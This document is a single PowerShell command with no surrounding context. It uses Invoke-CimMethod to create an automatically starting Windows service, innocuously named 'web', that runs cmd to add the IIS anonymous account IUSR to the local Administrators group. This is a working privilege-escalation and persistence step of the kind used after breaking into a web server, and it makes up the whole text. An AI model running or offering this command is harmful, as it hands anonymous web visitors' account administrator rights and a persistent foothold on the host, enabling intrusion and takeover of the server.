Invoke-CimMethod -ClassName Win32_Service -MethodName Create -Arguments @{ Name = 'web'; DisplayName = 'web'; PathName = 'cmd /c net localgroup Administrators IUSR /add'; StartMode = 'Automatic' }
